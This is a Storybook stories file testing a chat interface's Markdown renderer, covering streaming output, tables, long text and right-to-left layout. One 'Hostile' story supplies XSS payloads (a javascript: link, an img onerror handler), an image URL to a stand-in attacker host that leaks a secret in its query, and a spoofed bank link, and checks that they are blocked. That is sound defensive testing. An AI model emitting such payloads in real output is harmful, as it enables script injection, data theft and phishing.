import type { Meta, StoryObj } from "@storybook/react-vite";
import { expect, userEvent } from "storybook/test";
import { Message } from "../Message/Message.js";
import { Markdown } from "./Markdown.js";

const meta: Meta<typeof Markdown> = { title: "Text/Markdown", component: Markdown };
export default meta;

type Story = StoryObj<typeof Markdown>;

const ANSWER = `## Seating plan

The plan seats **212 guests** at 24 tables; _two_ changes need a look:

1. Move the Ames party to table 9, where two vegetarian seats are free.
2. Ask the caterer about \`nut_allergy\` at table 7.
   - The note is from [the guest list](https://guests.example/2026-10-14).
   - It is ~~missing~~ not in the menu yet.

| Table | Host | Free seats |
|:------|:----:|-----------:|
| 7 | Ames | 0 |
| 9 | Ortiz | 2 |

- [x] Collect guests and tables
- [ ] Publish and notify

> Nothing is sent before you agree.

\`\`\`ts
const seats = tables.reduce((sum, table) => sum + table.seats, 0);
if (seats < guests.length) throw new Error("Not enough seats");
\`\`\`

---

Plan written to \`venue/plan.json\`.`;

export const Done: Story = {
  args: { text: ANSWER },
  play: async ({ canvas }) => {
    await expect(canvas.getByRole("heading", { level: 3, name: "Seating plan" })).toBeVisible();
  },
};

export const Streaming: Story = {
  args: { text: ANSWER.slice(0, ANSWER.indexOf("tables.reduce") + 20), streaming: true },
  play: async ({ canvasElement }) => {
    await expect(canvasElement.querySelector("pre .rt-caret")).toBeVisible();
  },
};

export const StreamingAnUnfinishedLink: Story = {
  args: { text: "The note is from **the [guest list](https://guests.exam", streaming: true },
  play: async ({ canvas, canvasElement }) => {
    await expect(canvas.getByText("the guest list")).toBeVisible();
    await expect(canvasElement.querySelector("a")).toBeNull();
  },
};

export const Empty: Story = {
  args: { text: "", streaming: true },
  play: async ({ canvasElement }) => {
    await expect(canvasElement.querySelector(".rt-caret")).toBeVisible();
  },
};

export const Failed: Story = {
  name: "Failed: cut off in mid-markup",
  args: { text: "The directory says **that\n\n```ts\nconst a = 1" },
  play: async ({ canvas }) => {
    await expect(canvas.getByText("const a = 1")).toBeVisible();
  },
};

export const Hostile: Story = {
  args: {
    text: "[click](javascript:alert(1)) <img src=x onerror=alert(1)> ![chart](https://evil.example/p.png?leak=secret) [https://bank.example](https://evil.example)",
  },
  play: async ({ canvas, canvasElement }) => {
    await expect(canvas.getByText("Image from evil.example, not loaded")).toBeVisible();
    await expect(canvasElement.querySelectorAll("a")).toHaveLength(1);
    await expect(canvasElement.querySelector("img")).toBeNull();
  },
};

export const VeryLong: Story = {
  args: { text: `${"W".repeat(400)}\n\n${"A paragraph that goes on.\n\n".repeat(2000)}` },
  play: async ({ canvas, canvasElement }) => {
    await userEvent.click(canvas.getByRole("button", { name: /Show all/ }));
    await expect(canvas.queryByRole("button", { name: /Show all/ })).toBeNull();
    const text = canvasElement.querySelector(".rt-md") as HTMLElement;
    await expect(text.scrollWidth).toBeLessThanOrEqual(text.clientWidth);
  },
};

export const WideTableInANarrowPage: Story = {
  args: {
    text: `| ${"Column | ".repeat(12)}\n|${"---|".repeat(12)}\n| ${"a wide cell | ".repeat(12)}`,
  },
  render: (args) => (
    <div style={{ inlineSize: 320 }}>
      <Markdown {...args} />
    </div>
  ),
  play: async ({ canvas }) => {
    const region = canvas.getByRole("region", { name: "Table" });
    await expect(region.scrollWidth).toBeGreaterThan(region.clientWidth);
  },
};

export const InAMessage: Story = {
  args: { text: ANSWER },
  render: ({ text }) => (
    <Message final message={{ role: "assistant", status: "done", content: text }}>
      <Markdown text={text} headingLevel={4} />
    </Message>
  ),
  play: async ({ canvasElement }) => {
    await expect(canvasElement.querySelector(".rt-prose .rt-md")).toBeVisible();
  },
};

export const RightToLeft: Story = {
  args: {
    text: "# الخطة\n\n1. سجّلت الرد، و **Jordan Ames** مؤكد لشخصين.\n2. `table_9`\n\n> اقتباس",
  },
  render: (args) => (
    <div dir="rtl" style={{ inlineSize: 360 }}>
      <Markdown {...args} />
    </div>
  ),
  play: async ({ canvasElement }) => {
    const item = canvasElement.querySelector("li") as HTMLElement;
    await expect(getComputedStyle(item).direction).toBe("rtl");
  },
};
